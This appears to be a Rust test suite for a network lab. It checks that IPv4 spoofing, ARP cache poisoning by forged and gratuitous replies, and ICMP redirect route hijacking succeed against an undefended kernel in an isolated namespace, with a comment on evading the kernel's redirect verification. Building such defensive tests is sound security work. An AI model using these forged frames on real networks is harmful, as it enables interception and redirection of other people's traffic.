//! IPv4 attacks that work on a kernel without defences.

use std::net::Ipv4Addr;

use lab::frames::{Arp, Ethernet, Icmp, Ipv4, Mac};
use lab::{Netns, eventually};

use crate::wire::{ATTACKER, FORGED, LINK, TIMEOUT, VICTIM, Wire};

/// An unused address.
const UNUSED: Ipv4Addr = Ipv4Addr::new(192, 0, 2, 77);

#[test]
fn a_forged_source_is_answered() {
    let wire = Wire::new();
    let mut capture = wire.capture();
    let packet = Ipv4::new(UNUSED, VICTIM).icmp(Icmp::echo_request(1, 1, b""));
    wire.send(&wire.ethernet().ipv4(&packet));
    // The victim resolves the forged address.
    let request = capture.first(TIMEOUT, |frame| frame.arp().is_some());
    let (sender, wanted) = request.unwrap().arp().unwrap();
    assert_eq!(sender, (wire.victim_mac(), VICTIM));
    assert_eq!(wanted.1, UNUSED);
}

/// Sends an ARP message until the victim's neighbour entry changes.
fn poison(message: impl Fn(&Wire) -> Vec<u8>) {
    let wire = Wire::new();
    wire.victim.ping(&ATTACKER.to_string()).unwrap();
    let entry = wire.neighbour("192.0.2.1");
    assert!(entry.contains(&wire.link.mac().to_string()), "{entry}");
    // An entry is locked for a second after each change.
    eventually(TIMEOUT, "the entry changes", || {
        wire.send(&message(&wire));
        let entry = wire.neighbour("192.0.2.1");
        entry.contains(&FORGED.to_string()).then_some(())
    })
    .unwrap();
}

#[test]
fn an_arp_reply_changes_a_neighbour_entry() {
    poison(|wire| {
        let message = Arp::reply(ATTACKER, FORGED, (wire.victim_mac(), VICTIM));
        wire.ethernet().arp(&message)
    });
}

#[test]
fn a_gratuitous_arp_changes_a_neighbour_entry() {
    poison(|wire| {
        let message = Arp::gratuitous(ATTACKER, FORGED);
        Ethernet::new(wire.link.mac(), Mac::BROADCAST).arp(&message)
    });
}

#[test]
fn an_icmp_redirect_changes_a_route() {
    let wire = Wire::new();
    for (name, value) in [("accept_redirects", "1"), ("secure_redirects", "0")] {
        for link in ["all", LINK] {
            let name = format!("net.ipv4.conf.{link}.{name}");
            wire.victim.sysctl(&name, value).unwrap();
        }
    }
    let setup: [&[&str]; 2] = [
        &["route", "add", "198.51.100.0/24", "via", "192.0.2.1"],
        // The gateway must be resolvable.
        &[
            "neighbour",
            "add",
            "192.0.2.77",
            "lladdr",
            "02:00:00:ba:d0:01",
            "dev",
            LINK,
        ],
    ];
    for line in setup {
        wire.victim.ip(line).unwrap();
    }
    assert!(wire.route("198.51.100.9").contains("via 192.0.2.1"));
    let far = Ipv4Addr::new(198, 51, 100, 9);
    // The kernel verifies a redirect with the protocol of the quoted packet, except for echo replies.
    let sent = Ipv4::new(VICTIM, far).icmp(Icmp::echo_reply(1, 1, b""));
    let packet = Ipv4::new(ATTACKER, VICTIM).icmp(Icmp::redirect(UNUSED, &sent));
    wire.send(&wire.ethernet().ipv4(&packet));
    eventually(TIMEOUT, "the route changes", || {
        let route = wire.route("198.51.100.9");
        route.contains("via 192.0.2.77").then_some(())
    })
    .unwrap();
}
